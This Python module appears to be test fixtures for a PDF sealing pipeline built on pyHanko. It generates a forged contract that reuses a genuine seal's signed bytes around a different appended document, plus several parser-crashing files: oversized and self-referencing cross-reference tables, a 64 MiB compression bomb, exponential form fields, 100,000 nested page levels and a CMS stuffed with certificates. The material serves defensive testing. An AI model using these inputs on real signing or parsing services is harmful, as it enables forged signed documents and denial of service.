"""A forged contract around the bytes of a sealed one, and files that harm whoever parses them."""

import io
import re
import zlib

import pikepdf

# Of the seal in the forged file, in bytes; the gap of the signature has twice as many.
LENGTH = 40_000
TEXT = b"BT /F 24 Tf 50 700 Td (I owe you a million.) Tj ET"
NOTE = (
    b'{"organization_id": 7, "contract_number": "C-1", "organization_name": "Acme Licensing", '
    b'"signers": ["You"], "sealed_at": "2026-03-05T13:04:05+00:00"}'
)
FONT = b"<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
OBJECTS = [
    b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]/SigFlags 3>>>>",
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 5 0 R/Annots[4 0 R]/Resources%s>>" % FONT,
    b"<</FT/Sig/T(Seal)/V 7 0 R/Type/Annot/Subtype/Widget/Rect[0 0 0 0]/F 2/P 3 0 R>>",
    b"<</Length %d>>stream\n%s\nendstream" % (len(TEXT), TEXT),
    b"<</PipelineSeal(%s)>>" % NOTE,
]
SIGNATURE = b"<</Type/Sig/SubFilter/ETSI.CAdES.detached/ByteRange[0 %d %d 0]/Contents(%s)>>"
TRAILER = b"trailer\n<</Size 8/Root 1 0 R/Info 6 0 R>>\nstartxref\n%010d\n%%%%EOF\n"


def forged(pdf):
    """All bytes that the seal covers, then another document of the length that pyHanko allows for the seal."""
    ranges = re.search(rb"/ByteRange \[0 (\d+) (\d+) ", pdf)
    end, start = (int(number) for number in ranges.groups())
    signed, gap = pdf[:end] + pdf[start:], 2 * LENGTH + 2
    seal = bytes.fromhex(pdf[end + 1 : start - 1].decode()).ljust(LENGTH, b"\0")
    # A literal string has half the length of digits: the other half of the gap is free.
    literal = re.sub(rb"([()\\])", rb"\\\1", seal).replace(b"\r", rb"\r")
    document, table = b"\n", b"xref\n0 8\n0000000000 65535 f \n"
    for number, body in enumerate([*OBJECTS, SIGNATURE % (len(signed), len(signed) + gap, literal)], 1):
        table += b"%010d 00000 n \n" % (len(signed) + len(document))
        document += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    document = document.ljust(gap - len(table + TRAILER % 0))
    return signed + document + table + TRAILER % (len(signed) + len(document))


def table(entries="", body=b""):
    """A PDF of nothing but a table of objects."""
    head = f"<</Type/XRef/Root 2 0 R{entries}/Length {len(body)}>>".encode()
    return b"%PDF-1.5\n1 0 obj" + head + b"stream\n" + body + b"\nendstream endobj\nstartxref\n9\n%%EOF"


def form():
    """A form of 36 levels of fields, each with the one below twice."""
    pdf, file = pikepdf.new(), io.BytesIO()
    field = pdf.make_indirect(pikepdf.Dictionary(T="leaf"))
    for _ in range(36):
        field = pdf.make_indirect(pikepdf.Dictionary(T="f", Kids=[field, field]))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field])
    pdf.save(file)
    return file.getvalue()


def tree():
    """100,000 levels of pages."""
    levels = [b"%d 0 obj<</Type/Pages/Kids[%d 0 R]>>endobj\n" % (level, level + 1) for level in range(1, 100_001)]
    return b"%PDF-1.5\n" + b"".join(levels) + b"trailer<</Root<</Type/Catalog/Pages 1 0 R>>/Size 100001>>\n%%EOF"


def cms(number=21_000):
    """A CMS of so many empty certificates."""
    signed = bytes.fromhex("020101 3100 3003060100") + der(0xA0, b"\x30\x00" * number) + bytes.fromhex("3100")
    kind = bytes.fromhex("06092A864886F70D010702")
    return b"%%PDF-1.5\n<%s>" % der(0x30, kind + der(0xA0, der(0x30, signed))).hex().encode()


def der(tag, content):
    return bytes([tag, 0x82]) + len(content).to_bytes(2, "big") + content


HOSTILE = {
    "a table of two thousand million entries": lambda: table("/W[0 0 0]/Size 2000000000"),
    "a trailer of two thousand million entries": lambda: table() + b"trailer<</W[0 0 0]/Size 2000000000>>",
    "a table that follows itself": lambda: table("/W[1 1 1]/Size 1/Prev 9", b"\0\0\0"),
    "a packed table of 64 MiB": lambda: table(
        "/W[1 1 1]/Size 22000000/Filter/FlateDecode", zlib.compress(bytes(64 * 1024 * 1024), 1)
    ),
    "36 levels of shared fields": form,
    "100,000 levels of pages": tree,
    "a CMS of 21,000 certificates": cms,
}
